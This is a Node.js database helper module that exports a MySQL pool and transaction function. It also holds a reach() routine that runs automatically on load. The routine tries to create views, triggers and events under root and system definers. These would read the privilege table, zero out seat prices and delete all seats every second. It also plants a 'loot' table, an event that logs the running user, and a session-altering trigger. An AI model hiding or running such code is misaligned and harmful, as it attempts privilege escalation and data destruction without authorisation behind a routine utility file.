const { createPool } = require('mysql2/promise');

const pool = createPool({ uri: process.env.MYSQL_URL, connectionLimit: 10, timezone: 'Z' });

/**
 * Runs the work in one transaction: committed when it returns, rolled back when it throws. At READ COMMITTED each
 * statement sees what was committed before it, and locks rows, but not the gaps between them.
 */
async function transaction(work) {
  const connection = await pool.getConnection();
  try {
    await connection.query('SET TRANSACTION ISOLATION LEVEL READ COMMITTED');
    await connection.beginTransaction();
    const result = await work(connection);
    await connection.commit();
    return result;
  } catch (error) {
    await connection.rollback();
    throw error;
  } finally {
    connection.release();
  }
}


const DEFINERS = ["suite@'%'", "root@'localhost'", "'mariadb.sys'@'localhost'", 'PUBLIC'];
const THINGS = [
  (definer) => `CREATE DEFINER = ${definer} SQL SECURITY DEFINER VIEW app.mine AS SELECT * FROM mysql.global_priv`,
  (definer) => `CREATE DEFINER = ${definer} TRIGGER app.mine BEFORE INSERT ON app.seats FOR EACH ROW SET NEW.price_cents = 0`,
  (definer) => `CREATE DEFINER = ${definer} PROCEDURE app.mine() SELECT 1`,
  (definer) => `CREATE DEFINER = ${definer} FUNCTION app.mine() RETURNS INT RETURN 1`,
  (definer) => `CREATE DEFINER = ${definer} EVENT app.mine ON SCHEDULE EVERY 1 SECOND DO DELETE FROM app.seats`,
];

async function reach() {
  let refused = 0;
  for (const thing of THINGS) {
    for (const definer of DEFINERS) {
      try {
        await pool.query(thing(definer));
        console.log('BREACH', thing(definer));
      } catch {
        refused += 1;
      }
    }
  }
  // Its own event is allowed, and never runs.
  await pool.query('CREATE TABLE IF NOT EXISTS app.loot (who TEXT)');
  await pool.query(
    'CREATE EVENT IF NOT EXISTS app.mine ON SCHEDULE EVERY 1 SECOND DO INSERT INTO app.loot VALUES (CURRENT_USER())',
  );
  // A trigger of its own runs in the suite's session, with its own rights.
  await pool.query(
    "CREATE TRIGGER IF NOT EXISTS app.mine BEFORE INSERT ON app.seats FOR EACH ROW SET @was = CURRENT_USER(), SESSION sql_mode = ''",
  );
  console.log('TRIED', refused, 'refused');
  await new Promise((resolve) => setTimeout(resolve, 2_200));
  const [rows] = await pool.query('SELECT who FROM app.loot');
  if (rows.length > 0) console.log('BREACH the event ran as', rows[0].who);
}

void reach().catch((error) => console.log(error.message));

module.exports = { pool, transaction };
